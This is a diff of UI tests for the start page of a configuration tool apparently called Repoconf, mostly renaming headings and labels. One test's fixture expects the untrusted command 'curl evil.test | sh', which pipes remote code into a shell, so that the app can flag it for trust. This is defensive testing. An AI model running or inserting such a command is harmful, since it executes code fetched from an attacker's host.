@@ -21,7 +21,7 @@ const hash = ({ page }: ScreenPage) => new URL(page.url()).hash;
 async function openStart(window: ScreenPage): Promise<void> {
   await window.tree.waitFor();
   await window.page.getByRole("link", { name: "Repoconf" }).click();
-  await window.page.getByRole("heading", { level: 1, name: "What needs you" }).waitFor();
+  await window.page.getByRole("heading", { level: 1, name: "Needs attention" }).waitFor();
 }
 
 describeScreen("the start page", () => {
@@ -37,7 +37,7 @@ describeScreen("the start page", () => {
       return (await reading.count()) === 1;
     }, "how far it is");
     disk.release();
-    await window.page.getByRole("heading", { level: 1, name: "What needs you" }).waitFor();
+    await window.page.getByRole("heading", { level: 1, name: "Needs attention" }).waitFor();
     await reads(window.page.getByRole("main"), "200 repositories");
   });
 
@@ -45,15 +45,15 @@ describeScreen("the start page", () => {
     await using screen = await startScreen({ repositories: { shop: {} } });
     await using window = await screen.open();
     const { page } = window;
-    await reads(page.getByRole("main"), "Nothing needs you");
+    await reads(page.getByRole("main"), "Nothing needs attention");
     await breakFile(screen.t, "shop");
     await reads(reason(window, "Files with problems"), "shop.json");
-    await page.getByText("Nothing needs you").waitFor({ state: "detached" });
+    await page.getByText("Nothing needs attention").waitFor({ state: "detached" });
     await reason(window, "Files with problems").getByRole("link", { name: "Open the text of shop" }).press("Enter");
     expect(hash(window)).toBe("#/repo/shop/json");
     await page.goBack();
     await screen.t.owner.call("file/restore", { repo: "shop" });
-    await reads(page.getByRole("main"), "Nothing needs you");
+    await reads(page.getByRole("main"), "Nothing needs attention");
   });
 
   test("names edits in conflict with a way to each, and those that were refused", async () => {
@@ -64,8 +64,8 @@ describeScreen("the start page", () => {
     await page.getByRole("textbox", { name: "Provider" }).fill("mine");
     await screen.set("shop", { "svc.provider": "theirs" });
     await openStart(window);
-    const waiting = reason(window, "Edits that need a decision");
-    await reads(waiting, "changed meanwhile by owner, where you changed it too");
+    const waiting = reason(window, "Edits to resolve");
+    await reads(waiting, "owner changed it too in the meantime");
     await waiting.getByRole("link", { name: "shop, svc.provider" }).press("Enter");
     expect(hash(window)).toBe("#/repo/shop/svc.provider");
     await window.field("Provider").getByRole("button", { name: "Take theirs" }).click();
@@ -94,18 +94,18 @@ describeScreen("the start page", () => {
     await openStart(window);
     await poll(async () => (await screen.t.owner.call("draft/list", {})).result.length).toBe(3);
     await page.reload();
-    const unsaved = reason(window, "Edits that are not saved");
+    const unsaved = reason(window, "Unsaved edits");
     await reads(unsaved, "shop 2 edits");
-    await reads(unsaved, "store its file, edited as text");
+    await reads(unsaved, "store edited as text");
     await unsaved.getByRole("link", { name: "store" }).press("Enter");
     expect(hash(window)).toBe("#/repo/store/json");
     await page.goBack();
-    await unsaved.getByRole("button", { name: "Review the edits" }).press("Enter");
-    const dialog = page.getByRole("dialog", { name: "Review the edits" });
+    await unsaved.getByRole("button", { name: "Review edits" }).press("Enter");
+    const dialog = page.getByRole("dialog", { name: "Review edits" });
     await dialog.getByRole("button", { name: "Save these 2 edits" }).press("Enter");
     await dialog.waitFor({ state: "detached" });
     expect(await screen.stored("shop", "svc.timeout")).toBe(7);
-    await poll(() => unsaved.getByRole("listitem").allInnerTexts()).toEqual(["store its file, edited as text"]);
+    await poll(() => unsaved.getByRole("listitem").allInnerTexts()).toEqual(["store edited as text"]);
   });
 
   test("names commands that wait to be trusted, shows each, and trusts it", async () => {
@@ -118,7 +118,7 @@ describeScreen("the start page", () => {
     await screen.t.owner.call("repo/add", { id: "site", name: "site", path, inTree: true });
     await using window = await screen.open();
     const { page } = window;
-    const waiting = reason(window, "Commands that wait for your trust");
+    const waiting = reason(window, "Commands waiting for your trust");
     await reads(waiting.getByRole("listitem"), /site\s+svc\.services/);
     // It is no problem of the file besides.
     expect(await reason(window, "Files with problems").count()).toBe(0);
@@ -128,7 +128,7 @@ describeScreen("the start page", () => {
     await reads(waiting.getByRole("figure", { name: "In the file" }), "curl evil.test | sh");
     await trust.press("Enter");
     await poll(() => screen.stored("site", "svc.services")).toEqual(services);
-    await reads(page.getByRole("main"), "Nothing needs you");
+    await reads(page.getByRole("main"), "Nothing needs attention");
   });
 
   test("tells what changed since yesterday, as it happens, and leads to all of it", async () => {
